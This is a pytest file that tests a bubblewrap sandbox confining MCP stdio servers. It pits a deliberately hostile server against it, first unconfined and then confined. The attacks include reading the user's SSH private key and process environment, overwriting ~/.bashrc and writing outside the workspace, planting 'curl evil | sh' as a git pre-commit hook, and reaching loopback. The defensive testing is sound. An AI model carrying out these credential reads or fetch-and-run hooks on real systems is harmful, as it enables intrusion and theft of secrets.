"""MCP stdio servers with ``sandbox = "local"``: confined like ``run_shell``'s local backend.

Each attack is made by a real malicious stdio server (``servers/escape.py``)
connected through the public API (``create_kernel(mcp_manifest=…)`` → the
Gate → the MCP tool), and each test checks the refusal in the tool's answer
AND that nothing happened on the host. Every attack test first runs the same
server with ``sandbox = "none"`` (the old behaviour, still the default): there
the attack succeeds, which proves the attack is real and the refusal is the
sandbox's.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import sys
from pathlib import Path
from typing import Any

import psutil
import pytest
import trio
from kernel_helpers import venv_under
from mcp_host_helpers import PYTHON, SERVERS, manifest, py_server, toml_str

from ringfence import create_kernel
from ringfence.mcp_host import connect_servers, parse_manifest
from ringfence.runtime import InvalidArguments, Kernel, MemorySink, Posture, use_places

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")


def escape_server(sandbox: str, state: Path | None = None, extra: str = "") -> str:
    lines = f'sandbox = "{sandbox}"\n' if sandbox != "none" else ""
    return py_server("jail", "escape.py", state=state, extra=lines + extra)


class Session:
    """A kernel over ``workspace`` with the escape server connected, and its events."""

    def __init__(self, kernel: Kernel, events: Path) -> None:
        self.kernel = kernel
        self.events_path = events

    async def tool(self, name: str, **arguments: Any) -> str:
        value = await self.kernel.call(f"mcp.jail.{name}", arguments)
        return json.dumps(value)

    def events(self, kind: str) -> list[dict[str, Any]]:
        lines = self.events_path.read_text().splitlines()
        return [e for e in map(json.loads, lines) if e["kind"] == kind]


def kernel_with(workspace: Path, tmp_path: Path, *blocks: str, checkpoints: bool = False) -> Kernel:
    """A writable server's writes are change sets: pass ``checkpoints=True`` for one."""
    return create_kernel(
        roots=[workspace],
        posture=Posture.ALLOW_ALL,
        mcp_manifest=manifest(*blocks),
        events_path=tmp_path / "events.jsonl",
        checkpoints=checkpoints,
    )


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.txt").write_text("workspace data\n")
    return ws


async def _outcomes(
    workspace: Path,
    tmp_path: Path,
    sandbox: str,
    calls: list[tuple[str, dict[str, Any]]],
    checkpoints: bool = False,
    **kw: Any,
) -> tuple[list[str], Session]:
    block = escape_server(sandbox, **kw)
    async with kernel_with(workspace, tmp_path, block, checkpoints=checkpoints) as kernel:
        session = Session(kernel, tmp_path / "events.jsonl")
        return [await session.tool(name, **args) for name, args in calls], session


# -- it works, and says so ------------------------------------------------------------------


async def test_a_confined_server_lists_and_calls_tools_and_the_event_says_confined(
    workspace: Path, tmp_path: Path
) -> None:
    async with kernel_with(workspace, tmp_path, escape_server("local")) as kernel:
        tools = sorted(s.name for s in kernel.tools() if s.name.startswith("mcp.jail."))
        assert tools == [f"mcp.jail.{n}" for n in ("connect", "daemon", "echo", "read", "write")]
        assert "hello from the jail" in await Session(kernel, tmp_path / "x").tool(
            "echo", text="hello from the jail"
        )
        # The workspace is readable (read-only): a server can still do its job.
        assert "workspace data" in await Session(kernel, tmp_path / "x").tool(
            "read", path=str(workspace / "notes.txt")
        )
    (event,) = Session(kernel, tmp_path / "events.jsonl").events("mcp_connected")
    sandbox = event["sandbox"]
    assert sandbox["confined"] is True
    assert sandbox["network"] is False and sandbox["writable"] is False
    layers = {layer["layer"]: layer for layer in sandbox["layers"]}
    for name in ("namespaces", "file system", "network", "seccomp", "landlock", "rlimits"):
        assert layers[name]["ok"], layers[name]
    assert "read-only" in layers["file system"]["detail"]


async def test_an_unconfined_server_is_recorded_as_unconfined(
    workspace: Path, tmp_path: Path
) -> None:
    async with kernel_with(workspace, tmp_path, escape_server("none")):
        pass
    (event,) = Session(None, tmp_path / "events.jsonl").events("mcp_connected")  # type: ignore[arg-type]
    assert event["sandbox"] == {"confined": False}


# -- attacks from inside the server -----------------------------------------------------------


async def test_writes_outside_the_roots_and_into_a_read_only_workspace_are_refused(
    workspace: Path, tmp_path: Path, user_home: Path
) -> None:
    sibling = tmp_path / "outside"
    sibling.mkdir()
    marker = f"ringfence-mcp-attack-{secrets.token_hex(6)}"
    targets = [
        user_home / ".bashrc",
        sibling / "dropped",
        Path("/tmp") / marker,  # the host's /tmp
        Path("/usr/local") / marker,
        workspace / "notes.txt",  # the workspace, not granted sandbox_writable
        workspace / "new.txt",
    ]
    calls = [("write", {"path": str(p), "text": "evil\n"}) for p in targets]
    try:
        # Control: unconfined, every write lands (and is undone here).
        before = {p: p.read_bytes() for p in targets if p.exists()}
        unconfined, _ = await _outcomes(workspace, tmp_path, "none", calls)
        assert all("ok:" in o for o in unconfined), unconfined
        for p in targets:
            if p in before:
                p.write_bytes(before[p])
            else:
                p.unlink()
        outcomes, _ = await _outcomes(workspace, tmp_path, "local", calls)
        for target, outcome in zip(targets, outcomes, strict=True):
            # /tmp is the sandbox's own: that write succeeds there and never reaches the host's.
            assert "refused:" in outcome or target.parent == Path("/tmp"), (target, outcome)
        assert (user_home / ".bashrc").read_text() == "# the user's bashrc\n"
        assert not (sibling / "dropped").exists()
        assert not (Path("/tmp") / marker).exists() and not (Path("/usr/local") / marker).exists()
        assert (workspace / "notes.txt").read_text() == "workspace data\n"
        assert not (workspace / "new.txt").exists()
    finally:
        for p in (Path("/tmp") / marker, Path("/usr/local") / marker):
            p.unlink(missing_ok=True)


async def test_a_writable_grant_opens_the_roots_but_not_git_metadata(
    workspace: Path, tmp_path: Path
) -> None:
    """The server writes through an overlay; after each call its writes are a change set
    merged by the guarded writer, which refuses the hook (test_mcp_host_confined_writes.py
    has the repository shapes)."""
    git = workspace / ".git"
    for sub in ("hooks", "objects", "refs/heads"):
        (git / sub).mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    outside = f"/usr/local/ringfence-{secrets.token_hex(6)}"
    block = escape_server("local", extra="sandbox_writable = true\n")
    async with kernel_with(workspace, tmp_path, block, checkpoints=True) as kernel:
        made = await kernel.call(
            "mcp.jail.write", {"path": str(workspace / "made.txt"), "text": "by the server\n"}
        )
        assert "ok: " in json.dumps(made) and made["changes"]["files"] == 1, made
        hook = await kernel.invoke(
            "mcp.jail.write",
            {"path": str(git / "hooks" / "pre-commit"), "text": "curl evil | sh\n"},
        )
        # The server saw its write succeed (in its overlay); the merge refused it.
        assert not hook.ok and hook.error.code == "git_metadata", hook
        assert ".git/hooks/pre-commit" in hook.error.message
        usr = await kernel.call("mcp.jail.write", {"path": outside, "text": "evil\n"})
        assert "refused:" in json.dumps(usr), usr
        # Lands in the sandbox's private /tmp (the roots' parents are made there).
        await kernel.call(
            "mcp.jail.write", {"path": str(tmp_path / "outside.txt"), "text": "evil\n"}
        )
    assert not Path(outside).exists()
    assert (workspace / "made.txt").read_text() == "by the server\n"
    assert not (git / "hooks" / "pre-commit").exists()
    assert not (tmp_path / "outside.txt").exists()
    (event,) = Session(kernel, tmp_path / "events.jsonl").events("mcp_connected")
    assert event["sandbox"]["writable"] is True
    layers = {layer["layer"]: layer for layer in event["sandbox"]["layers"]}
    assert layers["writes"]["ok"] and "frozen" in layers["writes"]["detail"]
    assert layers["overlay"]["ok"], layers


async def test_a_writable_server_without_the_checkpoint_store_is_refused(
    workspace: Path, tmp_path: Path
) -> None:
    """Its writes could reach the workspace only as change sets: no store, no server."""
    state = tmp_path / "state"
    state.mkdir()
    block = escape_server("local", state=state, extra="sandbox_writable = true\n")
    async with kernel_with(workspace, tmp_path, block, checkpoints=False) as kernel:
        error = kernel.extensions["mcp"].failures["jail"]
    assert error.code == "unavailable" and error.field == "sandbox_writable", error
    assert "checkpoints=True" in error.message and "sandbox_writable = false" in error.message
    assert not (state / "started.log").exists()


async def test_the_users_ssh_key_cannot_be_read(
    workspace: Path, tmp_path: Path, user_home: Path
) -> None:
    key = user_home / ".ssh" / "id_ed25519"
    secret = key.read_text().strip()
    calls = [("read", {"path": str(key)}), ("read", {"path": "~/.ssh/id_ed25519"})]
    unconfined, _ = await _outcomes(workspace, tmp_path, "none", calls[:1])
    assert secret in unconfined[0]  # the attack is real
    outcomes, _ = await _outcomes(workspace, tmp_path, "local", calls)
    for outcome in outcomes:
        assert secret not in outcome and "refused:" in outcome, outcome


async def test_the_kernels_environment_is_invisible(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = f"kernel-secret-{secrets.token_hex(8)}"
    monkeypatch.setenv("RINGFENCE_ATTACK_MARKER", marker)
    calls = [("read", {"path": f"/proc/{os.getpid()}/environ"})]
    unconfined, _ = await _outcomes(workspace, tmp_path, "none", calls)
    # The attack is real: the kernel's environment as it started (a later setenv is not
    # in /proc/<pid>/environ, so the check is for a variable every test run starts with).
    assert "ok: " in unconfined[0] and "PATH=" in unconfined[0], unconfined
    outcomes, _ = await _outcomes(workspace, tmp_path, "local", calls)
    assert "refused:" in outcomes[0] and "PATH=" not in outcomes[0], outcomes
    assert marker not in outcomes[0]


async def test_a_listener_on_the_hosts_loopback_cannot_be_reached(
    workspace: Path, tmp_path: Path
) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        outcomes, _ = await _outcomes(workspace, tmp_path, "local", [("connect", {"port": port})])
        assert "refused:" in outcomes[0] and "connected" not in outcomes[0], outcomes
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected
        # The grant is per server and recorded: with it the same call connects.
        granted, session = await _outcomes(
            workspace,
            tmp_path,
            "local",
            [("connect", {"port": port})],
            extra="sandbox_network = true\n",
        )
        assert "ok: connected" in granted[0], granted
        assert session.events("mcp_connected")[-1]["sandbox"]["network"] is True
    finally:
        listener.close()


# -- fail closed ------------------------------------------------------------------------------


async def test_without_bubblewrap_the_server_is_refused_naming_the_layer_and_not_started(
    workspace: Path, tmp_path: Path, no_bwrap: Path
) -> None:
    state = tmp_path / "state"
    state.mkdir()
    async with kernel_with(workspace, tmp_path, escape_server("local", state=state)) as kernel:
        assert not [s for s in kernel.tools() if s.name.startswith("mcp.jail.")]
        error = kernel.extensions["mcp"].failures["jail"]
    assert error.code == "unavailable"
    assert "namespaces" in error.message and "bubblewrap" in error.message
    assert "apt-get install bubblewrap" in error.message  # the fix
    (failed,) = Session(kernel, tmp_path / "events.jsonl").events("mcp_connect_failed")
    assert failed["server"] == "jail" and failed["error"]["code"] == "unavailable"
    assert not (state / "started.log").exists()  # nothing ran, confined or not


async def test_without_a_confiner_a_local_sandbox_server_is_refused_not_started(
    tmp_path: Path,
) -> None:
    """``connect_servers`` with no ``stdio_confiner`` never starts such a server unconfined."""
    state = tmp_path / "state"
    state.mkdir()
    kernel = Kernel(events_sink=MemorySink())
    async with kernel, connect_servers(kernel, manifest(escape_server("local", state))) as c:
        error = c.failures["jail"]
    assert error.code == "unavailable" and error.field == "sandbox"
    assert 'sandbox = "local"' in error.message
    assert not (state / "started.log").exists()
    # The control: the same server without the sandbox key starts (and writes its log).
    kernel = Kernel(events_sink=MemorySink())
    async with kernel, connect_servers(kernel, manifest(escape_server("none", state))) as c:
        assert not c.failures
    assert (state / "started.log").exists()


# -- the manifest ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("block", "field", "words"),
    [
        ('sandbox = "docker"', "sandbox", "one of none, local"),
        ("sandbox = true", "sandbox", "one of none, local"),
        ("sandbox_network = true", "sandbox_network", 'only applies with sandbox = "local"'),
        ('sandbox = "local"\nsandbox_writable = "yes"', "sandbox_writable", "true or false"),
    ],
)
def test_the_manifest_checks_the_sandbox_keys(block: str, field: str, words: str) -> None:
    text = f'[[server]]\nname = "s"\ntransport = "stdio"\ncommand = "x"\n{block}\n'
    with pytest.raises(InvalidArguments) as caught:
        parse_manifest(text, "mcp.toml")
    assert caught.value.field == field and words in caught.value.message
    assert "mcp.toml:" in caught.value.message


def test_the_sandbox_is_for_stdio_servers_only() -> None:
    text = '[[server]]\nname = "s"\ntransport = "http"\nurl = "https://example.com/mcp"\n'
    with pytest.raises(InvalidArguments) as caught:
        parse_manifest(text + 'sandbox = "local"\n', "mcp.toml")
    assert caught.value.field == "sandbox" and "stdio" in caught.value.message
    (server,) = parse_manifest(
        '[[server]]\nname = "s"\ntransport = "stdio"\ncommand = "x"\nsandbox = "local"\n'
        "sandbox_network = true\n",
        "mcp.toml",
    ).servers
    assert server.sandbox == "local" and server.sandbox_network and not server.sandbox_writable


def test_the_cli_inspects_a_sandboxed_server_confined(
    capsys: pytest.CaptureFixture[str], ringfence_home: Path, workspace: Path
) -> None:
    """``ringfence mcp inspect`` starts a ``sandbox = "local"`` server confined, and says so."""
    from ringfence.cli import main

    (ringfence_home / "mcp.toml").write_text(escape_server("local"))
    code = main(["mcp", "inspect", "jail", "--workspace", str(workspace), "--json"])
    out, err = capsys.readouterr()
    assert code == 0, out
    assert "starting its process confined (sandbox = local)" in err
    result = json.loads(out)["result"]
    sandbox = result["identity"]["sandbox"]
    assert sandbox["confined"] is True and not sandbox["writable"]
    (transport,) = [c for c in result["checks"] if c["check"] == "transport_security"]
    assert "not sandboxed" not in transport["detail"], transport
    assert 'confined by the local sandbox (sandbox = "local"' in transport["detail"], transport
    assert {layer["layer"] for layer in sandbox["layers"] if layer["ok"]} >= {
        "namespaces",
        "landlock",
        "seccomp",
    }


async def test_a_sandbox_that_does_not_start_is_refused_naming_the_layer(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """bubblewrap is there but fails (here: a stand-in that exits): no report, no connection."""
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    with use_places(bwrap=fake):
        async with kernel_with(workspace, tmp_path, escape_server("local")) as kernel:
            error = kernel.extensions["mcp"].failures["jail"]
            assert not [s for s in kernel.tools() if s.name.startswith("mcp.jail.")]
    assert error.code == "unavailable" and "namespaces" in error.message
    assert "before its supervisor reported" in error.message
    # Why: bubblewrap's own words, from the server's stderr.
    assert "bwrap: setting up uid map: Permission denied" in error.message


def _with_marker(marker: str) -> list[psutil.Process]:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        if any(marker in part for part in p.info["cmdline"] or ()):
            found.append(p)
    return found


async def _daemon_outlives_its_server(workspace: Path, tmp_path: Path, sandbox: str) -> bool:
    """Connect the escape server (``sandbox``), have it start a daemon in a new session (out of
    its process group), check the daemon runs, close the connection; whether it still runs."""
    marker = f"ringfence-daemon-{sandbox}-{secrets.token_hex(6)}"
    try:
        async with kernel_with(workspace, tmp_path, escape_server(sandbox)) as kernel:
            outcome = await Session(kernel, tmp_path / "events.jsonl").tool("daemon", marker=marker)
            assert "ok: " in outcome, outcome
            with trio.move_on_after(5):
                while not _with_marker(marker):
                    await trio.sleep(0.05)
            assert _with_marker(marker)  # the attack is real: it runs beside the server
        with trio.move_on_after(5):
            while _with_marker(marker):
                await trio.sleep(0.05)
        return bool(_with_marker(marker))
    finally:
        for p in _with_marker(marker):
            p.kill()


async def test_a_daemon_the_server_starts_does_not_outlive_it(
    workspace: Path, tmp_path: Path
) -> None:
    # Gone with the server's PID namespace.
    assert not await _daemon_outlives_its_server(workspace, tmp_path, "local")


async def test_an_unconfined_servers_daemon_goes_with_it_where_its_tree_is_a_cgroup(
    workspace: Path, tmp_path: Path
) -> None:
    """A stdio server is started by ringfence's process supervisor: its tree is its own cgroup
    (where cgroup v2 is writable), stopped whole. (The SDK's spawn stopped only its process
    group, which a new session leaves; the run-id fallback still does no more than that.)"""
    from ringfence import _proc

    outlives = await _daemon_outlives_its_server(workspace, tmp_path, "none")
    if _proc.tracking().method != "cgroup":
        pytest.skip(f"no cgroup tracking here ({_proc.tracking().detail}); not promised")
    assert not outlives


@pytest.mark.npm
async def test_the_npm_filesystem_server_runs_confined_and_cannot_write_a_read_only_root(
    workspace: Path, tmp_path: Path, filesystem_bin: Path
) -> None:
    """The reference ``@modelcontextprotocol/server-filesystem``, allowed the workspace by its own
    argument: confined, it lists and reads there, and its writes there fail (not granted)."""

    def block(extra: str = "") -> str:
        return (
            f'[[server]]\nname = "fs"\ntransport = "stdio"\ncommand = {toml_str(filesystem_bin)}\n'
            f'args = [{toml_str(workspace)}]\nsandbox = "local"\n{extra}'
        )

    target = workspace / "written.txt"
    async with kernel_with(workspace, tmp_path, block()) as kernel:
        assert "mcp.fs.write_file" in {s.name for s in kernel.tools()}
        read = await kernel.call("mcp.fs.read_text_file", {"path": str(workspace / "notes.txt")})
        assert "workspace data" in json.dumps(read)
        wrote = await kernel.invoke("mcp.fs.write_file", {"path": str(target), "content": "x"})
        assert not wrote.ok and "EROFS: read-only file system" in wrote.error.message, wrote
    assert not target.exists()
    writable = block("sandbox_writable = true\n")
    async with kernel_with(workspace, tmp_path, writable, checkpoints=True) as kernel:
        wrote = await kernel.invoke("mcp.fs.write_file", {"path": str(target), "content": "x"})
        assert wrote.ok, wrote.error
        assert wrote.value["changes"]["files"] == 1, wrote.value
    assert target.read_text() == "x"


def test_a_layer_the_supervisor_cannot_apply_refuses_the_server(
    workspace: Path, tmp_path: Path
) -> None:
    """A kernel whose hard file-size limit is below the sandbox's: the supervisor's rlimits
    layer fails inside the sandbox, its report says so, and the server never starts."""
    import subprocess
    import sys

    state = tmp_path / "state"
    state.mkdir()
    (tmp_path / "mcp.toml").write_text(escape_server("local", state))
    script = f"""
import json, resource, trio
from ringfence import create_kernel
resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 30, 1 << 30))

async def main():
    async with create_kernel(roots=[{str(workspace)!r}], mcp_manifest={str(tmp_path / "mcp.toml")!r},
                             checkpoints=False) as kernel:
        print(json.dumps(kernel.extensions["mcp"].failures["jail"].to_dict()))

trio.run(main)
"""
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    error = json.loads(done.stdout.strip().splitlines()[-1])
    assert error["code"] == "unavailable", error
    assert "rlimits" in error["message"] and "ulimit -H" in error["message"], error
    assert not (state / "started.log").exists()


# -- programs the sandbox would hide -----------------------------------------------------------


def _python_under_tmp(base: Path) -> Path:
    """This checkout's own interpreter when its environment is under /tmp already (the case
    reported: a clone in /tmp), else a venv made in ``base`` that imports what it imports."""
    prefix = Path(os.path.realpath(sys.prefix))
    if any(p in prefix.parents for p in (Path("/tmp"), Path("/var/tmp"))):
        return Path(sys.executable)
    return venv_under(base)


async def test_a_server_whose_interpreter_and_script_lie_under_tmp_runs_confined(
    workspace: Path, tmp_path: Path, under_tmp: Path
) -> None:
    """A venv's interpreter and a server script under /tmp: shown read-only in the sandbox
    (the venv whole, the script's own directory), and nothing else of /tmp."""
    python = _python_under_tmp(under_tmp)
    script = under_tmp / "servers" / "escape.py"
    script.parent.mkdir()
    shutil.copy(SERVERS / "escape.py", script)
    neighbour = under_tmp / "private.txt"
    neighbour.write_text("another /tmp file the server must not see\n")
    block = (
        f'[[server]]\nname = "jail"\ntransport = "stdio"\ncommand = {toml_str(python)}\n'
        f'args = [{toml_str(script)}]\nsandbox = "local"\nread_only_tools = ["echo", "read"]\n'
    )
    async with kernel_with(workspace, tmp_path, block) as kernel:
        failures = kernel.extensions["mcp"].failures
        assert not failures, {k: v.message for k, v in failures.items()}
        session = Session(kernel, tmp_path / "events.jsonl")
        assert "hello from /tmp" in await session.tool("echo", text="hello from /tmp")
        seen = await session.tool("read", path=str(neighbour))
        written = await session.tool("write", path=str(script.parent / "planted"), text="x")
    assert "refused" in seen and "another /tmp file" not in seen, seen
    assert "refused" in written and not (script.parent / "planted").exists(), written
    (event,) = Session(kernel, tmp_path / "events.jsonl").events("mcp_connected")
    layers = {layer["layer"]: layer for layer in event["sandbox"]["layers"]}
    assert "shown read-only: " in layers["file system"]["detail"]
    assert str(script.parent) in layers["file system"]["detail"]


async def test_a_server_that_dies_at_start_is_refused_with_its_stderr(
    workspace: Path, tmp_path: Path
) -> None:
    """The connect error says why the server died: its last stderr lines, redacted."""
    script = workspace / "broken.py"
    script.write_text("import sys\nsys.exit('broken-server: cannot load its configuration')\n")
    block = (
        f'[[server]]\nname = "jail"\ntransport = "stdio"\ncommand = {toml_str(PYTHON)}\n'
        f'args = [{toml_str(script)}]\nsandbox = "local"\n'
    )
    async with kernel_with(workspace, tmp_path, block) as kernel:
        error = kernel.extensions["mcp"].failures["jail"]
    assert error.code == "unavailable", error.message
    assert "broken-server: cannot load its configuration" in error.message, error.message
    # Framed: an untrusted server's words (test_mcp_host_stderr_framed.py).
    assert "broken-server: cannot load its configuration" in error.details["stderr"][-1]
